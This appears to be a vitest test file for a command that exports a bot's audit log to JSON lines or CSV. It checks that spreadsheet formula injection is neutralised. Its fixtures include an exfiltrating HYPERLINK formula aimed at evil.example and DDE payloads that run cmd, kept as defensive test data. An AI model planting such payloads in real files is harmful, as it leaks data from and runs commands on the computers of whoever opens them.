import { execFile } from 'node:child_process';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { promisify } from 'node:util';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';

const repoRoot = resolve(import.meta.dirname, '..');
const run = promisify(execFile);
const dataDir = mkdtempSync(join(tmpdir(), 'audit-export-'));

/** Cells a spreadsheet would run as formulas (OWASP "CSV Injection"): each must come back as text. */
const formulas = {
  tool: '=HYPERLINK("https://evil.example/?leak="&B2,"Details")',
  server: "+cmd|' /C calc'!A0",
  arguments: "-2+3+cmd|' /C calc'!A0",
  detail: "@SUM(1+1)*cmd|' /C calc'!A0",
  person: '\t=1+1',
  workspace: '\r=1+1',
  approved_by: '\n=1+1',
};

/** The rows of a CSV text as RFC 4180 reads it: quoted cells, doubled quotes, line breaks inside quotes. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let at = 0; at < text.length; at++) {
    const char = text[at] as string;
    if (quoted && char === '"' && text[at + 1] === '"') {
      cell += '"';
      at++;
    } else if (char === '"') {
      quoted = !quoted;
    } else if (!quoted && (char === ',' || char === '\n')) {
      row.push(cell);
      cell = '';
      if (char === '\n') {
        rows.push(row);
        row = [];
      }
    } else {
      cell += char;
    }
  }
  return rows;
}

/** The operator's command, on a store the bot would use (DATA_DIR). */
const exportAudit = (...args: string[]) =>
  run(process.execPath, [join(repoRoot, 'scripts', 'audit-export.mjs'), ...args], {
    cwd: repoRoot,
    env: { PATH: process.env.PATH, HOME: process.env.HOME, DATA_DIR: dataDir },
  });

describe('pnpm audit-export', () => {
  beforeAll(async () => {
    const { openStore } = (await import(
      join(repoRoot, 'packages/store/dist/index.js')
    )) as typeof import('../packages/store/src/index.js');
    const { seedEmbeddedStore } = (await import(
      join(repoRoot, 'packages/test-kit/dist/index.js')
    )) as typeof import('../packages/test-kit/src/index.js');
    const store = await openStore({ dataDir: seedEmbeddedStore(dataDir), env: {} });
    await store.audit.record({
      at: new Date('2026-11-02T09:00:00Z'),
      workspace: 'T1',
      person: 'U1',
      kind: 'tool_call',
      server: 'tickets',
      tool: 'create_ticket',
      arguments: '{"title":"printer, \\"jammed\\""}',
      approval: { by: 'U1', at: new Date('2026-11-02T09:00:03Z') },
      outcome: 'ok',
      durationMs: 420,
    });
    await store.audit.record({
      at: new Date('2026-10-01T09:00:00Z'),
      workspace: 'T1',
      person: 'U2',
      kind: 'admin',
      server: 'weather',
      detail: 'disabled weather',
    });
    await store.audit.record({
      at: new Date('2026-11-03T09:00:00Z'),
      kind: 'tool_call',
      outcome: 'ok',
      tool: formulas.tool,
      server: formulas.server,
      arguments: formulas.arguments,
      detail: formulas.detail,
      person: formulas.person,
      workspace: formulas.workspace,
      approval: { by: formulas.approved_by, at: new Date('2026-11-03T09:00:01Z') },
    });
    await store.audit.record({
      at: new Date('2026-11-02T10:00:00Z'),
      workspace: 'T3',
      person: 'U3',
      kind: 'tool_call',
      tool: "'=already quoted",
      durationMs: -5,
    });
    await store.close();
  }, 60_000);
  afterAll(() => rmSync(dataDir, { recursive: true, force: true, maxRetries: 5 }));

  it('writes JSON lines since a date, and CSV with quoted cells', async () => {
    const lines = (await exportAudit('--since', '2026-11-01', '--workspace', 'T1')).stdout.trim().split('\n');
    expect(lines.map((line) => JSON.parse(line))).toEqual([
      expect.objectContaining({
        person: 'U1',
        tool: 'create_ticket',
        approved_by: 'U1',
        outcome: 'ok',
        duration_ms: 420,
      }),
    ]);
    const csv = (await exportAudit('--since', '2026-09-01', '--format', 'csv', '--workspace', 'T1')).stdout
      .trim()
      .split('\n');
    expect(csv[0]).toBe(
      'at,workspace,person,kind,server,tool,arguments,approved_by,approved_at,outcome,duration_ms,detail',
    );
    expect(csv).toHaveLength(3);
    expect(csv[1]).toContain('"{""title"":""printer, \\""jammed\\""""}"');
  }, 120_000);

  it('#43.19 a cell a spreadsheet would run as a formula is written as text, its value kept', async () => {
    const { stdout } = await exportAudit('--since', '2026-11-03', '--format', 'csv');
    const [header, row, ...rest] = parseCsv(stdout);
    expect(rest).toEqual([]);
    const cells = Object.fromEntries((header ?? []).map((name, index) => [name, row?.[index] ?? '']));
    for (const [column, value] of Object.entries(formulas)) {
      const cell = cells[column] ?? '';
      // OWASP: no cell may begin with =, +, -, @, tab, carriage return or line feed.
      expect(cell, column).not.toMatch(/^[=+\-@\t\r\n]/);
      // The one quote put in front is all that changed: dropping it gives the recorded value back.
      expect(cell, column).toBe(`'${value}`);
    }
    expect(cells.kind).toBe('tool_call');
    expect(cells.at).toBe('2026-11-03T09:00:00.000Z');

    // A value that already begins with ' gets one more, so one rule reads every cell back; numbers too.
    const [, quoted] = parseCsv(
      (await exportAudit('--since', '2026-11-01', '--format', 'csv', '--workspace', 'T3')).stdout,
    );
    expect(quoted?.slice(5, 6)).toEqual(["''=already quoted"]);
    expect(quoted?.[10]).toBe("'-5");
  });

  it('a missing or malformed --since is a usage error', async () => {
    const failed = await exportAudit('--since', 'yesterday').catch(
      (error: { code: number; stderr: string }) => error,
    );
    expect(failed).toMatchObject({ code: 2 });
    expect((failed as { stderr: string }).stderr).toMatch(/usage: pnpm audit-export --since YYYY-MM-DD/);
  });
});
